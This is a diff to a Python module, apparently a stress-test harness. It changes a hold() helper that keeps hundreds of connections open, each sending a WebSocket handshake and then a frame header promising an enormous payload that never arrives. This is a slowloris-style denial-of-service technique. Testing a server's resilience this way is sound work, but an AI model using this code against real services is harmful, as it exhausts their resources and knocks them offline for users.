@@ -165,7 +165,7 @@ def unfinished_sockets(target: Target) -> None:
     ).encode()
     # Masked with nothing: a mask of zeros.
     head = b"\x82\xff" + struct.pack(">Q", size) + bytes(4)
-    hold(target.http, 256, handshake + head + bytes(size - 1))
+    hold(target.http, 256, handshake, head + bytes(size - 1))
 
 
 def unfinished_streams(target: Target) -> None:
@@ -196,8 +196,11 @@ def strangers(calls_per_s: float = 1800) -> Attacker:
     return attack
 
 
-def hold(address: str, count: int, words: bytes, wait_s: float = 1.0) -> None:
-    """Keep so many connections that have said ``words``; those that are closed come anew."""
+def hold(
+    address: str, count: int, words: bytes, after_reply: bytes = b"", wait_s: float = 1.0
+) -> None:
+    """Keep so many connections that have said ``words``, and ``after_reply`` once something came
+    back; those that are closed come anew."""
     held: list[socket.socket] = []
     while True:
         while len(held) < count:
@@ -205,6 +208,8 @@ def hold(address: str, count: int, words: bytes, wait_s: float = 1.0) -> None:
                 one = connected(address)
                 held.append(one)
                 one.sendall(words)
+                if after_reply and one.recv(65536):
+                    one.sendall(after_reply)
             except OSError:
                 break
         time.sleep(wait_s)
